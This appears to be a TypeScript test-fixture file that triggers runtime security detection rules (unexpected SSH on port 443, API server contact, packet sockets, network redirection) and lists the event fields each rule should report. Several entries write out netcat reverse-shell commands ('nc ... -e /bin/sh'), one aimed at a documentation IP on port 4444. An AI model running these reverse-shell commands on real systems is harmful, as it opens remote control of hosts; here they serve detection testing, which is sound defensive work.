import { type Attack, outsideIp } from './attack.ts'

// Of another block for documentation: outsideIp is the API server's.
const masterIp = '198.51.100.10'
const sshOptions = ['-F', 'none', '-o', 'BatchMode=yes', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null']

export const network: readonly Attack[] = [
  {
    rule: 'Disallowed SSH Connection Non Standard Port',
    on: 'host',
    priority: 'Notice',
    act: (ground) => {
      const ssh = Bun.which('ssh')
      const client = ssh === null ? [ground.tool('ssh'), 'dial', outsideIp, '443'] : [ssh, ...sshOptions, '-p', '443', outsideIp]
      return ground.run([ground.tool('tool'), 'host', outsideIp, '443', ...client])
    },
    fields: () => ({
      'user.name': 'root',
      'evt.type': 'connect',
      'proc.name': 'ssh',
      'fd.name': new RegExp(`^${outsideIp}:\\d+->${outsideIp}:443$`),
      'fd.rport': 443,
      'fd.type': 'ipv4',
      'fd.l4proto': 'tcp',
    }),
  },
  {
    rule: 'Contact K8S API Server From Container',
    on: 'container',
    priority: 'Notice',
    act: (ground) => ground.runInContainer(['/bin/tool', 'host', outsideIp, '443', '/bin/tool', 'dial', outsideIp, '443']),
    fields: () => ({
      'evt.type': 'connect',
      'proc.name': 'tool',
      'fd.name': new RegExp(`^${outsideIp}:\\d+->${outsideIp}:443$`),
      'fd.rport': 443,
      'fd.l4proto': 'tcp',
    }),
  },
  {
    rule: 'Netcat Remote Code Execution in Container',
    on: 'container',
    priority: 'Warning',
    // Nobody listens there: it is the start of such a netcat that counts.
    act: (ground) => ground.runInContainer(['/bin/nc', '127.0.0.1', '9', '-e', '/bin/sh']),
    fields: () => ({ 'proc.name': 'nc', 'proc.cmdline': 'nc 127.0.0.1 9 -e /bin/sh' }),
  },
  {
    rule: 'Netcat Remote Code Execution in Container',
    name: 'through busybox',
    on: 'container',
    priority: 'Warning',
    oursOnly: true,
    act: (ground) => ground.runInContainer(['/bin/busybox', 'nc', '127.0.0.1', '9', '-e', '/bin/sh']),
    fields: () => ({ 'proc.name': 'busybox', 'proc.cmdline': 'busybox nc 127.0.0.1 9 -e /bin/sh' }),
  },
  {
    rule: 'Netcat Remote Code Execution in Container',
    name: 'that reaches its master',
    on: 'container',
    priority: 'Warning',
    act: (ground) => ground.runInContainer(['/bin/tool', 'host', masterIp, '4444', '/bin/nc', masterIp, '4444', '-e', '/bin/sh']),
    fields: () => ({ 'proc.name': 'nc', 'proc.cmdline': `nc ${masterIp} 4444 -e /bin/sh` }),
    companions: ['Redirect STDOUT/STDIN to Network Connection in Container'],
  },
  {
    rule: 'Packet socket created in container',
    on: 'container',
    priority: 'Notice',
    act: (ground) => ground.runInContainer(['/bin/tool', 'packet']),
    fields: () => ({ 'evt.type': 'socket', 'proc.name': 'tool', 'evt.args': /AF_PACKET/ }),
  },
  {
    rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
    on: 'container',
    priority: 'Notice',
    times: 3,
    act: (ground) => ground.runInContainer(['/bin/tool', 'redirect']),
    fields: () => ({
      'evt.type': 'dup2',
      'proc.name': 'tool',
      'fd.name': /^127\.0\.0\.1:\d+->127\.0\.0\.1:\d+$/,
      'fd.sip': '127.0.0.1',
      'fd.type': 'ipv4',
      'fd.l4proto': 'tcp',
    }),
  },
]
